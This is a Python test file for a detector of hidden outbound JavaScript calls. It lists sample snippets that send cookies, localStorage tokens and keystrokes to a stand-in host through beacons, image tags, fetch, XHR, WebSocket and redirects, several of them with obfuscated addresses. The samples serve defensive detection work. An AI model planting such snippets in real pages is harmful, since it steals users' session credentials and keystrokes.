import time

import pytest

from clausewise.detect.callback import Load, Way, calls, code_characters_max, score

URL = "https://stranger.example/c"


@pytest.mark.parametrize(
    ("code", "way", "load"),
    [
        (f'navigator.sendBeacon("{URL}", document.cookie)', Way.BEACON, Load.SECRET),
        (f"navigator['sendBeacon']('{URL}')", Way.BEACON, Load.NOTHING),
        (f"var u='{URL}'; navigator.sendBeacon(u, '')", Way.BEACON, Load.NOTHING),
        (f"new Image().src='{URL}?c='+document.cookie", Way.IMAGE, Load.SECRET),
        (f"var i=new Image(1,1); i.src = '{URL}?r='+Math.random();", Way.IMAGE, Load.CHANGING),
        (f"document.createElement('img').src='{URL}?'+navigator.userAgent", Way.IMAGE, Load.VISITOR),
        (f"fetch('{URL}',{{method:'POST',mode:'no-cors',body:location.href}})", Way.FETCH, Load.VISITOR),
        (f"const API='{URL}'; fetch(`${{API}}?k=1`, {{keepalive: true}})", Way.FETCH, Load.CHANGING),
        (f"var d=localStorage.getItem('t');fetch('{URL}?'+btoa(d))", Way.FETCH, Load.SECRET),
        (f"var x=new XMLHttpRequest();x.open('POST','{URL}');x.send(document.cookie)", Way.REQUEST, Load.SECRET),
        (f"const s=new WebSocket('{URL}');s.onopen=()=>s.send(document.cookie)", Way.SOCKET, Load.SECRET),
        (f"new EventSource('{URL}?u='+uid)", Way.EVENTS, Load.VISITOR),
        (f"var s=document.createElement('script');s.src='{URL}?r='+document.referrer", Way.SCRIPT, Load.VISITOR),
        (f"location='{URL}?c='+document.cookie", Way.UNKNOWN, Load.SECRET),
        (f"window.location = '{URL}?t=' + localStorage.getItem('t')", Way.UNKNOWN, Load.SECRET),
        (f"location.replace('{URL}?c='+document.cookie)", Way.UNKNOWN, Load.SECRET),
        (f"el.style.backgroundImage='url({URL}?x='+uid+')'", Way.STYLE, Load.VISITOR),
        (f"document.onkeydown=e=>{{fetch('{URL}?'+e.key)}}", Way.FETCH, Load.SECRET),
        (f"""document.write('<img src="{URL}?'+Math.random()+'" width=1>')""", Way.IMAGE, Load.CHANGING),
    ],
)
def test_call_is_seen_with_what_it_carries_when_code_makes_one(code, way, load):
    assert [(one.way, one.load, one.url.startswith(URL)) for one in calls(code)] == [(way, load, True)]
    assert score(calls(code)[0]) >= 0.5


@pytest.mark.parametrize(
    "code",
    [
        "fetch(atob('aHR0cHM6Ly9zdHJhbmdlci5leGFtcGxlL2M='))",
        r"fetch('\x68ttps://str\u0061nger.example/c')",
        "fetch('ht'+'tps://stran'+'ger.example/c')",
        "fetch(String.fromCharCode(104,116,116,112,115,58,47,47,115,116,114,97,110,103,101,114,46,101,120,97,109,112,108,101,47,99))",
        "fetch('c/elpmaxe.regnarts//:sptth'.split('').reverse().join(''))",
    ],
)
def test_address_is_read_when_it_is_disguised(code):
    (one,) = calls(code)
    assert (one.url, one.is_disguised) == (URL, True)
    assert score(one) >= 0.85


@pytest.mark.parametrize(
    "code",
    [
        "fetch('https://api.stranger.example/v1/meteo').then(r => r.json()).then(d => { box.innerHTML = d.temperature })",
        "const rates = await fetch('https://api.stranger.example/rates?base=CAD');",
        "var x=new XMLHttpRequest();x.open('GET','https://api.stranger.example/a');x.onload=function(){show(x.responseText)};x.send()",
        "var s=document.createElement('script');s.src='https://widget.stranger.example/chat.js';document.body.appendChild(s)",
        r"fetch('https:\/\/api.stranger.example\/v1').then(show)",
        "$.getJSON('https://api.stranger.example/a', function (data) { show(data) })",
        "import('https://cdn.stranger.example/chart.js')",
        "location = 'https://login.stranger.example/?next=' + location.pathname",
        "window.open('https://maps.stranger.example/?q=' + place)",
    ],
)
def test_call_weighs_little_when_the_page_uses_the_answer(code):
    assert all(score(one) < 0.5 for one in calls(code))


@pytest.mark.parametrize(
    "code", ["fetch('/api/a')", "fetch(`${API}/x`)", "// see https://stranger.example/a", "track()"]
)
def test_nothing_is_seen_when_no_stranger_is_called(code):
    assert calls(code) == []


@pytest.mark.parametrize(
    "piece", ["fetch('https://a.example/'+", "new Image().src=", "'a'+", "atob('", "(((((", "x.open('GET',", "a="]
)
def test_code_is_read_in_linear_time_when_it_is_crafted(piece):
    code = piece * (code_characters_max // len(piece))
    started = time.process_time()
    calls(code)
    assert time.process_time() - started < 3
